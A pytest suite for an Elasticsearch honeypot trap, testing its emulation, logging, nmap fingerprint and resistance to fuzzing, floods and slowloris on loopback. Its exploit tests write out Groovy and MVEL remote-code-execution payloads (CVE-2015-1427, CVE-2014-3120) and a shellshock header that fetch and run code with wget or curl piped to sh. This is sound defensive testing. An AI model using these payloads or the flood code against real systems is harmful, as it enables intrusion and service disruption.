# SPDX-License-Identifier: MIT
"""The Elasticsearch trap against real clients on loopback: the official ``elasticsearch`` Python
client, curl, nmap, raw sockets (fuzz, flood, slowloris), and a real HTTP server that serves
the file a script payload tells the node to ``wget``."""

from __future__ import annotations

import asyncio
import json
import random
import re
import socket
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from elasticsearch import Elasticsearch, NotFoundError
from payloadserver import serve_payload
from sensorutil import SensorProc, free_port, need, rss_kb, run_sensor, wait_port

from honeyfarm.sensor.traps.elasticsearch.config import ElasticsearchConfig
from honeyfarm.sensor.traps.elasticsearch.server import LOGGED_BODY, ElasticsearchTrap

PAYLOAD = b"#!/bin/sh\necho pwned-by-es\n"
HITS: list[str] = []  # paths the payload server was asked for
IDLE = 3.0  # the fixture's idle timeout (seconds)


@pytest.fixture(scope="module")
def payload_server() -> Iterator[int]:
    with serve_payload(PAYLOAD, HITS) as port:
        yield port


def es_overrides(port: int, **extra: Any) -> dict[str, dict[str, Any]]:
    return {
        "sensor.elasticsearch": {"enabled": True, "listen": [f"127.0.0.1:{port}"], "idle_timeout": IDLE, **extra},
        "sensor.downloads": {"allow_loopback": True},
        "sensor.limits": {"max_per_ip": 400},
    }


@pytest.fixture(scope="module")
def es(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[SensorProc, int]]:
    port = free_port()
    with run_sensor(tmp_path_factory.mktemp("es"), es_overrides(port)) as sp:
        wait_port(port, proc=sp.proc)
        yield sp, port


def curl(*args: str) -> tuple[str, list[tuple[str, str]], bytes]:
    """(status line, headers in order, body) of ``curl -si``."""
    out = subprocess.run(["curl", "-si", "--max-time", "10", *args], capture_output=True, timeout=20).stdout
    head, _, body = out.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    return lines[0], [tuple(x.split(": ", 1)) for x in lines[1:]], body  # type: ignore[misc]


def raw(port: int, data: bytes, timeout: float = 5.0, half_close: bool = False) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=timeout) as s:
        s.sendall(data)
        if half_close:  # the client is done: the trap must not wait for the rest of a request
            s.shutdown(socket.SHUT_WR)
        out = b""
        try:
            while chunk := s.recv(65536):
                out += chunk
        except (TimeoutError, ConnectionResetError):
            pass
        return out


def alive(sp: SensorProc, port: int) -> None:
    assert sp.proc is not None and sp.proc.poll() is None, "the sensor died"
    status, _, body = curl(f"http://127.0.0.1:{port}/")
    assert status == "HTTP/1.1 200 OK" and b"You Know, for Search" in body


# ------------------------------------------------------------------------------------------- the client


def test_official_client_accepts_the_node(es: tuple[SensorProc, int]) -> None:
    sp, port = es
    client = Elasticsearch(f"http://127.0.0.1:{port}", request_timeout=10)
    info = client.info()
    assert info["version"]["number"] == "8.11.3" and info["tagline"] == "You Know, for Search"
    assert info["version"]["build_hash"] == "64cf052f3b56b1fd4449f5454cb88aca7e739d9a"
    assert client.info()["cluster_uuid"] == info["cluster_uuid"]  # stable
    assert client.cluster.health()["status"] == "yellow"
    assert "customers" in str(client.cat.indices())
    rows = client.cat.indices(format="json")
    assert {r["index"] for r in rows} >= {"customers", "orders-2024", "logs-app"}  # type: ignore[index]
    res = client.search(index="customers", query={"match": {"name": "maria"}})
    assert res["hits"]["hits"] and res["hits"]["hits"][0]["_index"] == "customers"
    assert client.indices.create(index="client-made")["acknowledged"] is True
    assert client.indices.exists(index="client-made")
    assert client.index(index="client-made", id="1", document={"a": 1})["result"] == "created"
    assert "client-made" in str(client.cat.indices(v=True))
    node = next(iter(client.nodes.info()["nodes"].values()))
    assert node["version"] == "8.11.3" and "master" in node["roles"]
    assert next(iter(client.nodes.stats()["nodes"].values()))["indices"]["docs"]["count"] > 0
    assert client.indices.get_mapping(index="customers")["customers"]["mappings"]["properties"]["email"]
    assert "orders-2024" in client.indices.get_alias()
    hit = res["hits"]["hits"][0]
    assert client.get(index="customers", id=hit["_id"])["_source"] == hit["_source"]
    assert client.count(index="logs-app")["count"] == 318204
    with pytest.raises(NotFoundError) as e:
        client.search(index="no-such-index", query={"match_all": {}})
    assert e.value.meta.status == 404 and e.value.error == "index_not_found_exception"
    evs = sp.wait_for(lambda evs: any(e.get("url") == "/no-such-index/_search" for e in evs))
    got = [e for e in evs if e["eventid"] == "elasticsearch.request.received"]
    assert any(e["client_version"].startswith("elasticsearch-py/8.") for e in got)
    searches = [e for e in evs if e["eventid"] == "elasticsearch.search.query" and e["url"] == "/customers/_search"]
    assert searches and json.loads(searches[0]["query"]) == {"match": {"name": "maria"}}


# ----------------------------------------------------------------------------------------------- curl


def test_root_has_elasticsearch_headers_and_pretty_body(es: tuple[SensorProc, int]) -> None:
    _, port = es
    status, headers, body = curl(f"http://127.0.0.1:{port}/")
    assert status == "HTTP/1.1 200 OK"
    assert headers == [
        ("X-elastic-product", "Elasticsearch"),
        ("content-type", "application/json"),
        ("content-length", str(len(body))),
    ]  # no Server, no Date: as Elasticsearch
    text = body.decode()
    assert text.startswith('{\n  "name" : "') and text.endswith('"tagline" : "You Know, for Search"\n}\n')
    assert json.loads(body)["version"]["lucene_version"] == "9.8.0"
    status, headers, head_body = curl("-I", f"http://127.0.0.1:{port}/")
    assert status == "HTTP/1.1 200 OK" and ("content-length", str(len(body))) in headers and head_body == b""
    _, headers, _ = curl(
        "-H", "Accept: application/vnd.elasticsearch+json; compatible-with=8", f"http://127.0.0.1:{port}/"
    )
    assert ("content-type", "application/vnd.elasticsearch+json;compatible-with=8") in headers


def test_cat_indices_text_table(es: tuple[SensorProc, int]) -> None:
    _, port = es
    status, headers, body = curl(f"http://127.0.0.1:{port}/_cat/indices?v")
    assert status == "HTTP/1.1 200 OK" and ("content-type", "text/plain; charset=UTF-8") in headers
    lines = body.decode().splitlines()
    assert lines[0].split() == [
        "health", "status", "index", "uuid", "pri", "rep", "docs.count", "docs.deleted",
        "store.size", "pri.store.size", "dataset.size",
    ]  # fmt: skip
    row = next(line for line in lines if " customers " in line)
    assert re.match(r"yellow open   customers +[\w-]{22} +1 +1 +1842 +0 +793\.5kb +793\.5kb +793\.5kb$", row), row
    assert lines[0].index("docs.count") + len("docs.count") == row.index("1842") + 4  # numbers right-aligned
    _, _, body = curl(f"http://127.0.0.1:{port}/_cat/indices?format=json")
    assert json.loads(body)[0].keys() >= {"health", "index", "docs.count", "store.size"}
    _, headers, body = curl("-H", "Accept: application/json", f"http://127.0.0.1:{port}/_cat/nodes")
    assert ("content-type", "application/json") in headers and json.loads(body)[0]["master"] == "*"


def test_unknown_route_bad_method_and_missing_index(es: tuple[SensorProc, int]) -> None:
    _, port = es
    status, headers, body = curl(f"http://127.0.0.1:{port}/a/b/c?x=1")
    assert status == "HTTP/1.1 400 Bad Request"
    assert json.loads(body) == {"error": "no handler found for uri [/a/b/c?x=1] and method [GET]"}
    status, headers, body = curl("-X", "POST", f"http://127.0.0.1:{port}/")
    assert status == "HTTP/1.1 405 Method Not Allowed"
    doc = json.loads(body)
    assert doc["status"] == 405
    assert re.fullmatch(
        r"Incorrect HTTP method for uri \[/\] and method \[POST\], allowed: \[\w+, \w+, \w+\]", doc["error"]
    )
    allow = dict(headers)["Allow"]
    assert sorted(allow.split(",")) == ["DELETE", "GET", "HEAD"]
    status, _, body = curl(f"http://127.0.0.1:{port}/missing-index")
    err = json.loads(body)
    assert status == "HTTP/1.1 404 Not Found" and err["status"] == 404
    assert err["error"]["root_cause"][0] == {
        "type": "index_not_found_exception",
        "reason": "no such index [missing-index]",
        "resource.type": "index_or_alias",
        "resource.id": "missing-index",
        "index_uuid": "_na_",
        "index": "missing-index",
    }
    _, _, body = curl(f"http://127.0.0.1:{port}/_security/_authenticate")
    assert json.loads(body)["error"]["reason"].startswith("Security must be explicitly enabled")
    # A body without a JSON content type (curl -d) is refused as by a real 8.x node.
    status, _, body = curl("-d", '{"query":{}}', f"http://127.0.0.1:{port}/_search")
    assert status == "HTTP/1.1 406 Not Acceptable"
    assert json.loads(body)["error"] == "Content-Type header [application/x-www-form-urlencoded] is not supported"


def test_every_route_of_the_brief_answers_json(es: tuple[SensorProc, int]) -> None:
    _, port = es
    base = f"http://127.0.0.1:{port}"
    for path, want in [
        ("/_nodes", "_nodes"),
        ("/_nodes/stats", "_nodes"),
        ("/_aliases", "customers"),
        ("/_mapping", "logs-app"),
        ("/_all/_search?q=error", "hits"),
        ("/_cluster/health?pretty", "status"),
        ("/_license", "license"),
    ]:
        status, headers, body = curl(base + path)
        assert status == "HTTP/1.1 200 OK" and want in json.loads(body), path
        assert headers[0] == ("X-elastic-product", "Elasticsearch"), path
    status, _, body = curl("-X", "PUT", f"{base}/curl-made")
    assert json.loads(body) == {"acknowledged": True, "shards_acknowledged": True, "index": "curl-made"}
    status, _, body = curl("-X", "PUT", f"{base}/curl-made")
    assert status == "HTTP/1.1 400 Bad Request" and "resource_already_exists_exception" in body.decode()
    status, _, body = curl("-X", "PUT", f"{base}/Bad-Name")
    assert json.loads(body)["error"]["reason"] == "Invalid index name [Bad-Name], must be lowercase"
    status, _, body = curl(f"{base}/_underscore")
    assert json.loads(body)["error"]["type"] == "invalid_index_name_exception"
    status, _, body = curl(f"{base}/customers/_doc/nope")
    assert status == "HTTP/1.1 404 Not Found" and json.loads(body) == {
        "_index": "customers",
        "_id": "nope",
        "found": False,
    }


# ---------------------------------------------------------------------------------------- exploits


def test_groovy_script_fields_is_logged_with_its_cve_and_its_url_fetched(
    es: tuple[SensorProc, int], payload_server: int
) -> None:
    sp, port = es
    url = f"http://127.0.0.1:{payload_server}/x"
    script = f'java.lang.Math.class.forName("java.lang.Runtime").getRuntime().exec("wget {url} -O /tmp/x").getText()'
    body = json.dumps({"size": 1, "script_fields": {"lupin": {"script": script}}})
    status, _, answer = curl("-H", "Content-Type: application/json", "-d", body, f"http://127.0.0.1:{port}/_search")
    assert status == "HTTP/1.1 400 Bad Request"  # Painless cannot compile it, as on a real 8.x node
    assert json.loads(answer)["error"]["root_cause"][0]["type"] == "script_exception"
    evs = sp.wait_for(lambda evs: any(e["eventid"] == "cowrie.session.file_download" for e in evs), timeout=20)
    q = next(e for e in evs if e["eventid"] == "elasticsearch.search.query" and e.get("scripts") == [script])
    assert q["cve"] == "CVE-2015-1427" and q["attack"] == "script-rce"
    assert q["command"] == f"wget {url} -O /tmp/x"
    dl = next(e for e in evs if e["eventid"] == "cowrie.session.file_download")
    assert dl["url"] == url and dl["trap"] == "elasticsearch" and dl["session"] == q["session"]
    assert dl["request"] == "POST /_search" and len(dl["sha256"]) == 64
    assert "/x" in HITS
    # A shellshock-style header is a payload too.
    ua = f"() {{ :; }}; /bin/bash -c 'curl -s http://127.0.0.1:{payload_server}/ua.sh | sh'"
    curl("-A", ua, f"http://127.0.0.1:{port}/")
    sp.wait_for(lambda evs: any(e.get("url", "").endswith("/ua.sh") and e["eventid"].endswith("download") for e in evs))


def test_mvel_search_in_the_source_parameter_is_cve_2014_3120(es: tuple[SensorProc, int]) -> None:
    sp, port = es
    src = {"size": 1, "query": {"filtered": {"query": {"match_all": {}}}}}
    mvel = 'import java.io.*;new java.util.Scanner(Runtime.getRuntime().exec("id").getInputStream()).next();'
    src["script_fields"] = {"cmd": {"script": mvel}}
    status, _, _ = curl("-G", "--data-urlencode", f"source={json.dumps(src)}", f"http://127.0.0.1:{port}/_search")
    assert status == "HTTP/1.1 400 Bad Request"
    evs = sp.wait_for(lambda evs: any(e.get("cve") == "CVE-2014-3120" for e in evs))
    q = next(e for e in evs if e.get("cve") == "CVE-2014-3120")
    assert q["eventid"] == "elasticsearch.search.query" and q["command"] == "id"


# ------------------------------------------------------------------------------------------------ nmap


@pytest.mark.skipif(need("nmap") is not None, reason=str(need("nmap")))
def test_nmap_version_scan(es: tuple[SensorProc, int], tmp_path: Path) -> None:
    """nmap 7.93 knows Elasticsearch only by 7.x's headers: an 8.x node (real or this trap) is not
    named; with ``legacy_http10_headers`` its HTTP/1.0 probe gets them and names the product."""
    _, port = es
    # Intensity 2 still sends GetRequest and HTTPOptions; the binary probes a silent 8.x node
    # (as Netty, the trap ignores what is not an HTTP line) makes nmap wait out are skipped.
    cmd = ["nmap", "-sV", "--version-intensity", "2", "-Pn", "-n", "--host-timeout", "120s", "-p"]
    out = subprocess.run([*cmd, str(port), "127.0.0.1"], capture_output=True, text=True, timeout=180).stdout
    fingerprint = "".join(x[3:] for x in out.splitlines() if x.startswith("SF:"))
    assert f"{port}/tcp open" in out and "You\\x20Know,\\x20for\\x20Search" in fingerprint  # nmap saw the JSON
    print("nmap, 8.x headers:", next(x for x in out.splitlines() if x.startswith(f"{port}/tcp")))
    legacy = free_port()
    with run_sensor(tmp_path, es_overrides(legacy, legacy_http10_headers=True)) as sp:
        wait_port(legacy, proc=sp.proc)
        out = subprocess.run([*cmd, str(legacy), "127.0.0.1"], capture_output=True, text=True, timeout=180).stdout
    line = next(x for x in out.splitlines() if x.startswith(f"{legacy}/tcp"))
    assert "Elasticsearch REST API 8.11.3" in line, out
    print("nmap, legacy_http10_headers:", line)


# --------------------------------------------------------------------------------------- hardening


def test_fuzz_garbage_and_oversized_requests_leave_the_node_up(es: tuple[SensorProc, int]) -> None:
    sp, port = es
    rng = random.Random(12)
    big_header = b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 20000 + b"\r\n\r\n"
    assert b"too_long_http_header_exception" in raw(port, big_header)
    assert b"too_long_http_line_exception" in raw(port, b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n\r\n")
    assert b"invalid version format: FOO" in raw(port, b"GET / FOO\r\n\r\n")
    assert raw(port, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(64)) == b""  # TLS: silence, as Netty
    huge = b"POST /_search HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000000\r\n\r\n"
    too_large = b"HTTP/1.1 413 Request Entity Too Large\r\ncontent-length: 0\r\nconnection: close\r\n\r\n"
    assert raw(port, huge + b"{" * 65536) == too_large  # as Netty's HttpObjectAggregator
    chunked = (
        b"POST /_search HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n"
    )
    assert raw(port, chunked + (b"10000\r\n" + b"[" * 65536 + b"\r\n") * 20 + b"0\r\n\r\n").startswith(b"HTTP/1.1 413")
    for body in (b"[" * 100_000, b'{"query":"\xff\xfe\xc3("}', b'{"a":' * 5000 + b"1" + b"}" * 5000):
        req = b"POST /_search HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nConnection: close\r\n"
        out = raw(port, req + b"Content-Length: %d\r\n\r\n" % len(body) + body)
        assert out.startswith(b"HTTP/1.1 400 Bad Request\r\nX-elastic-product: Elasticsearch\r\n"), out[:200]
    t0 = time.monotonic()
    answered = 0
    for i in range(300):
        kind = i % 4
        if kind == 0:
            data = rng.randbytes(rng.randrange(1, 2048))
        elif kind == 1:
            data = b"GET /" + rng.randbytes(40) + b" HTTP/1.1\r\n" + rng.randbytes(100) + b"\r\n\r\n"
        elif kind == 2:
            body = rng.randbytes(rng.randrange(0, 4096))
            head = b"POST /x/_search HTTP/1.1\r\nContent-Type: application/json\r\nConnection: close\r\n"
            data = head + b"Content-Length: %d\r\n\r\n" % len(body) + body
        else:
            doc = json.dumps({"query": {"bool": {"must": [{"match": {"a": "b" * rng.randrange(1, 100)}}]}}}).encode()
            cut = rng.randrange(0, len(doc))
            data = b"POST /_search HTTP/1.1\r\nContent-Type: application/json\r\nConnection: close\r\n"
            data += b"Content-Length: %d\r\n\r\n" % cut
            data += doc[:cut]
        answered += raw(port, data, timeout=IDLE + 2, half_close=kind == 0).startswith(b"HTTP/1.")
    print(f"fuzz: 300 cases in {time.monotonic() - t0:.1f} s, {answered} answered")
    assert answered >= 100  # the parser saw most of them
    # Bytes that never made a request are logged all the same, and their URLs fetched.
    raw(port, b"\x00junk wget http://127.0.0.1:9/never-served", half_close=True)
    sp.wait_for(lambda evs: any("never-served" in e.get("raw", "") for e in evs))
    alive(sp, port)
    log = (sp.workdir / "sensor.log").read_text(errors="replace")
    assert "Traceback" not in log, log[-3000:]


def test_flood_of_connections_and_slowloris(es: tuple[SensorProc, int]) -> None:
    sp, port = es
    assert sp.proc is not None
    rss0 = rss_kb(sp.proc.pid)

    async def flood() -> tuple[int, float]:
        conns = [await asyncio.open_connection("127.0.0.1", port) for _ in range(300)]
        for _, w in conns:  # every connection half-sends a request, and waits
            w.write(b"GET /_cluster/health HTTP/1.1\r\nHost: x\r\n")
        await asyncio.gather(*(w.drain() for _, w in conns))
        t0 = time.monotonic()
        r, w = await asyncio.open_connection("127.0.0.1", port)
        w.write(b"GET / HTTP/1.0\r\n\r\n")
        assert (await asyncio.wait_for(r.read(), 10)).startswith(b"HTTP/1.0 200 OK")
        latency = time.monotonic() - t0
        w.close()
        await w.wait_closed()
        for _, w in conns:
            w.write(b"\r\n")
        answers = await asyncio.gather(*(asyncio.wait_for(r.readuntil(b'"status":"yellow"'), 20) for r, _ in conns))
        for _, w in conns:
            w.close()
        await asyncio.gather(*(w.wait_closed() for _, w in conns), return_exceptions=True)
        return len(answers), latency

    ok, latency = asyncio.run(flood())
    rss1 = rss_kb(sp.proc.pid)
    print(
        f"flood: 300 connections answered ({ok}); a new request meanwhile in {latency * 1000:.0f} ms;",
        f"RSS {rss0} -> {rss1} kB",
    )
    assert ok == 300

    # A slowloris that stops mid-request is dropped after the idle timeout.
    with socket.create_connection(("127.0.0.1", port), timeout=IDLE * 4) as s:
        s.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        t0 = time.monotonic()
        assert s.recv(100) == b""
        waited = time.monotonic() - t0
    assert IDLE - 0.5 <= waited <= IDLE * 3, waited
    alive(sp, port)


class _Body:
    """A request's body stream, as ``_read_body`` sees it."""

    def __init__(self, data: bytes, announced: int | None) -> None:
        self.data, self.content_length, self.content = data, announced, self

    async def read(self, n: int) -> bytes:
        out, self.data = self.data[: min(n, 4096)], self.data[min(n, 4096) :]
        return out


def test_bodies_held_at_once_are_capped_sensor_wide() -> None:
    trap = ElasticsearchTrap.__new__(ElasticsearchTrap)
    trap.cfg = ElasticsearchConfig(max_body_bytes=65536, max_inflight_body_bytes=100_000)
    trap.inflight = 0

    async def read(data: bytes, announced: int | None) -> tuple[bytes, bool]:
        return await trap._read_body(_Body(data, announced))  # type: ignore[arg-type]

    body, big = asyncio.run(read(b"x" * 50_000, None))
    assert (len(body), big, trap.inflight) == (50_000, False, 50_000)
    body2, big = asyncio.run(read(b"y" * 60_000, None))  # only 50,000 left: cut to that, answered 413
    assert (len(body2), big, trap.inflight) == (50_000, True, 100_000)
    trap.inflight -= len(body) + len(body2)  # as handle() does once answered
    body, big = asyncio.run(read(b"z" * 70_000, 70_000))  # announced past max_body_bytes: its start only
    assert (len(body), big, trap.inflight) == (LOGGED_BODY, True, LOGGED_BODY)
